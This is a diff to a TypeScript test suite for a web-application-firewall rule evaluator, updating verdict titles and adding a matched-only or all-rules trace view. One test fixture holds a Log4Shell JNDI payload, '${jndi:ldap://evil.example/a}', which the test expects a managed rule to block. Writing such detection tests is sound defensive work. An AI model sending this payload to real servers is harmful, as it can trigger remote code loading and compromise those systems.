@@ -39,8 +39,8 @@ function evaluate(params: EvaluateRequestsParams): Promise<EvaluateRequestsResul
   return client.request(EvaluateRequestsRequest.method, params);
 }
 
-function trace(httpUri: string, index: number, httpText?: string): Promise<EvaluationTraceResult> {
-  return client.request(EvaluationTraceRequest.method, { httpUri, index, ...(httpText !== undefined ? { httpText } : {}) });
+function trace(httpUri: string, index: number, httpText?: string, view?: { allRules?: boolean; internals?: boolean }): Promise<EvaluationTraceResult> {
+  return client.request(EvaluationTraceRequest.method, { httpUri, index, ...(httpText !== undefined ? { httpText } : {}), ...(view ? { view } : {}) });
 }
 
 const titles = (r: EvaluateRequestsResult) => r.requests.map((x) => x.verdict?.title ?? null);
@@ -162,7 +162,8 @@ describe('evaluateRequests', () => {
     await client.open(CUSTOM, 'json', text);
     try {
       const r = await evaluate({ httpUri: HTTP, index: 2 });
-      assert.equal(titles(r)[2], 'Passed — no rule acted');
+      // The rule now logs: the pass names it (never "no rule acted" when a rule logged).
+      assert.equal(titles(r)[2], 'Passed — logged by block-admin');
     } finally {
       await client.closeDocument(CUSTOM);
     }
@@ -287,19 +288,21 @@ describe('anomaly scores (the OWASP-based ruleset)', () => {
       const r = await evaluate({ httpUri: uriOf(`${low}requests.http`) });
       assert.equal(r.error, undefined, JSON.stringify(r.error));
       const [xss, home] = r.requests;
-      const m = /^Managed challenge by owasp:949110 \(http_request_firewall_managed\) · anomaly score (\d+) ≥ 5$/.exec(xss.verdict?.title ?? '');
+      const m = /^Managed challenge by owasp:949110 \(http_request_firewall_managed\) · anomaly score (\d+) ≥ 5 from owasp:9\d{5}(, owasp:9\d{5})*( and owasp:9\d{5})?( and \d+ more)?$/.exec(xss.verdict?.title ?? '');
       assert.ok(m, xss.verdict?.title);
       assert.equal(xss.verdict?.score, Number(m[1]));
       assert.ok(xss.verdict!.score! >= 5);
       assert.equal(xss.verdict?.threshold, 5);
       assert.equal(xss.verdict?.description, '949110: Inbound Anomaly Score Exceeded');
       // Scored rules ran, so the pass shows the score it stayed at, and the threshold.
-      assert.match(home.verdict?.title ?? '', /^Passed — no rule acted · anomaly score \d < 5$/);
+      // A score of 0 is nothing that happened; a higher one names the rules that scored.
+      if (home.verdict?.score === 0) assert.equal(home.verdict.title, 'Passed — no rule acted');
+      else assert.match(home.verdict?.title ?? '', /^Passed — anomaly score \d < 5 from owasp:9\d{5}/);
       assert.equal(home.verdict?.threshold, 5);
 
       const h = await evaluate({ httpUri: uriOf(`${high}requests.http`), index: 0 });
       const score = h.requests[0].verdict?.score;
-      assert.equal(h.requests[0].verdict?.title, `Passed — no rule acted · anomaly score ${score} < 1000`);
+      assert.match(h.requests[0].verdict?.title ?? '', new RegExp(`^Passed — anomaly score ${score} < 1000 from owasp:9\\d{5}`));
       assert.equal(h.requests[0].verdict?.threshold, 1000);
       const t = await trace(uriOf(`${high}requests.http`), 0);
       assert.ok(t.markdown.includes(`| ${score} / 1000 |`) || t.markdown.includes('below threshold'), t.markdown);
@@ -338,19 +341,26 @@ describe('evaluationTrace', () => {
     assert.ok(md.includes('- Request: `GET /search?q=${jndi:ldap://evil.example/a}` (requests.http, line 2)'));
     assert.ok(md.includes('- Ruleset: `custom.ruleset.json + zone.ruleset.json`'));
     assert.ok(md.includes('| `http.request.uri.query` | `q=${jndi:ldap://evil.example/a}` |'));
-    // Both phases, in order, each rule with matched / action / outcome.
-    const custom = md.indexOf('## `http_request_firewall_custom`');
-    const managed = md.indexOf('## `http_request_firewall_managed`');
+    // Matched only (the default): the rules that did not match are hidden (here the whole
+    // custom phase), and the page says so.
+    assert.ok(!md.includes('## `http_request_firewall_custom`'));
+    assert.ok(!md.includes('| 1 | `block-admin` No admin area from outside the office | no | block | not matched |  |  |'));
+    assert.match(md, /_Showing matched rules only \(\d+ not matched hidden\); `crs\.\*` fields hidden \(\d+\)\. Switch with the buttons in the title bar of this view/);
+    // All rules: both phases, in order, each rule with matched / action / outcome.
+    const all = (await trace(HTTP, 0, undefined, { allRules: true })).markdown;
+    const custom = all.indexOf('## `http_request_firewall_custom`');
+    const managed = all.indexOf('## `http_request_firewall_managed`');
     assert.ok(custom > 0 && managed > custom);
-    assert.ok(md.includes('| 1 | `block-admin` No admin area from outside the office | no | block | not matched |  |  |'));
+    assert.ok(all.includes('| 1 | `block-admin` No admin area from outside the office | no | block | not matched |  |  |'));
+    assert.ok(all.includes('_Showing all rules; `crs.*` fields hidden'));
     assert.ok(md.includes('| 1 | `deploy-vendor` Execute Cloudflare Managed Ruleset | yes | execute | executed |'));
     assert.ok(md.includes('**↳ Cloudflare Managed Ruleset**'));
     assert.ok(md.includes('| 1 | `vendor:log4shell-uri` Apache Log4j - Remote Code Execution - URI - CVE:CVE-2021-44228 | yes | block | **acted** |  |  |'));
     assert.ok(md.endsWith('## Decision\n\n**block** by `vendor:log4shell-uri` Apache Log4j - Remote Code Execution - URI - CVE:CVE-2021-44228 in `http_request_firewall_managed`.\n'), md.slice(-300));
   });
 
-  test('a passed request: every vendor rule looked at and not matched', async () => {
-    const t = await trace(HTTP, 1);
+  test('a passed request, all rules: every vendor rule looked at and not matched', async () => {
+    const t = await trace(HTTP, 1, undefined, { allRules: true });
     assert.equal(t.verdict?.title, 'Passed — no rule acted');
     const rows = t.markdown.split('\n').filter((l) => l.startsWith('| ') && l.includes('`vendor:'));
     assert.ok(rows.length >= 40, `${rows.length} vendor rules in the trace`);
